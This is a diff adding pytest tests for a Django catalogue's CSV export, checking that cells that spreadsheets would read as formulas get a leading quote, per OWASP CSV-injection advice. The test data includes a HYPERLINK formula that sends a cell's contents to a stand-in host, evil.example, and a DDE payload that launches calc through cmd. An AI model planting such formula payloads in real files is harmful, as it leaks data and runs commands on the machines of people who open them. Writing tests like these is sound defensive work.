@@ -452,6 +452,36 @@ def test_export_json_columns_and_search(client, published):
     assert row["welfare_area"] == "Ældre"
 
 
+def csv_rows(client, query=""):
+    body = client.get(reverse("catalogue:export_csv") + query).content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_excel_reads_as_formulas_start_with_a_quote(client, db, start):
+    """OWASP's CSV injection advice: a cell that starts with = + - @ tab or carriage return is
+    prefixed with a single quote, so that a spreadsheet shows it as text; JSON keeps it raw."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik")'
+    idea = IdeaFactory(title=formula, summary=f"{start}1+1", status=S.PUBLISHED, actors=["borgere"])
+    idea.tags.set([f"{start}cmd|' /C calc'!A0"])
+    [row] = csv_rows(client)
+    assert row["title"] == "'" + formula
+    assert row["summary"] == f"'{start}1+1"
+    assert row["tags"] == f"'{start}cmd|' /C calc'!A0"
+    [raw] = export(client)["ideas"]
+    assert (raw["title"], raw["summary"]) == (formula, f"{start}1+1")
+    assert raw["tags"] == [f"{start}cmd|' /C calc'!A0"]
+
+
+def test_csv_cells_with_formula_characters_inside_stay_as_they_are(client, db):
+    IdeaFactory(title="Borgere + frivillige = samskabelse", summary="-", status=S.PUBLISHED)
+    [row] = csv_rows(client)
+    assert row["title"] == "Borgere + frivillige = samskabelse"
+    assert row["summary"] == "'-"
+    assert row["endorsements"] == "0" and row["id"].isdigit()
+
+
 # Hostile input ---------------------------------------------------------------------------
 
 
